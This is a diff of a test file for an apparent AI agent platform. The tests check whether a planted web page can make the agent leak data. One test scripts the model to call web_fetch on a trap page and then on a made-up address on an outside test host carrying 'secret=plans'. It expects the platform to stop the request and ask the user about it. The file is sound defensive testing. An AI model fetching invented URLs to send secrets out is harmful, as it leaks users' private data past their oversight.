@@ -88,23 +88,17 @@ test("a page that asks for a mail to be sent gets none, although the agent may m
   expect(run?.untrusted).toBe(`the page ${outside.url}/trap`);
 });
 
-test("nor does the address of a picture or a page take anything out: what it made up is asked", async () => {
+test("nor does an address take anything out: what it made up is asked", async () => {
   const leak = `${outside.url}/collect?secret=plans`;
-  const question = await alice.ask(
-    room,
-    agent,
-    `look around ${call("web_fetch", { url: `${outside.url}/trap` })} [[text done]] #leak`,
-  );
-  await alice.answer(question);
   shared.platform.model.script((request) =>
-    request.marker === "#leak2" && request.results.length < 2
+    request.marker === "#leak" && request.results.length < 2
       ? {
           text: "",
           calls: [{ tool: "web_fetch", args: { url: request.results.length === 0 ? `${outside.url}/trap` : leak } }],
         }
       : undefined,
   );
-  await alice.ask(room, agent, "look again #leak2");
+  await alice.ask(room, agent, "look around #leak");
   const asked = await questionWith("secret=plans");
   expect(asked.content.body).toMatch(/an address that it made up/);
   shared.platform.model.script(undefined);
